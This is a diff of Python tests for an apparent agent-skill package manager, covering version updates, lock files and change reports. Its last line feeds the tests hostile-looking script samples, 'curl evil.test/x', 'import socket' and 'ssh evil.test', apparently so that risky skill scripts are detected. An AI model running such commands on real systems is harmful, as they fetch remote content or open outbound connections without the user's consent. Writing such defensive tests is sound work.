@@ -72,8 +72,8 @@ def test_update_takes_the_newest_allowed_version_and_reports_newer_ones(world: W
     want(world, 'hello = { source = "acme", version = "^1" }')
     done = world.update()
     assert version(world) == "1.1.0"
-    changes = done.changes["hello"].to_json()
-    assert (changes["from_version"], changes["changes"]["files"]["changed"]) == ("1.0.0", ("SKILL.md", SIGNATURE))
+    changes = done.changes["hello"]
+    assert (changes.before.version, changes.files.changed) == ("1.0.0", ("SKILL.md", SIGNATURE))
     assert any("2.0.0" in line for line in done.warnings)
     assert "1.1.0" in (world.copy("hello") / "SKILL.md").read_text()
     assert not world.update().changed
@@ -206,9 +206,9 @@ def test_gains_of_an_update_are_asked_about_by_name(reaching: Reaching, upstream
     done = reaching.update(answers=Answers("yes", env="unanswered"))
     assert reaching.lock().skills["deploy"].requires == ("env:TRACKER_TOKEN",)
     assert [each.state for each in done.skills] == ["disabled"]
-    changes = done.changes["deploy"].to_json()["changes"]
-    assert changes["files"]["added"] == ("agents/openai.yaml", "run.sh")
-    assert changes["requires"]["added"] == ("env:TRACKER_TOKEN",)
+    changes = done.changes["deploy"]
+    assert changes.files.added == ("agents/openai.yaml", "run.sh")
+    assert changes.requires.added == ("env:TRACKER_TOKEN",)
 
 
 @pytest.mark.parametrize("script", ["curl evil.test/x", "import socket", "ssh evil.test"])
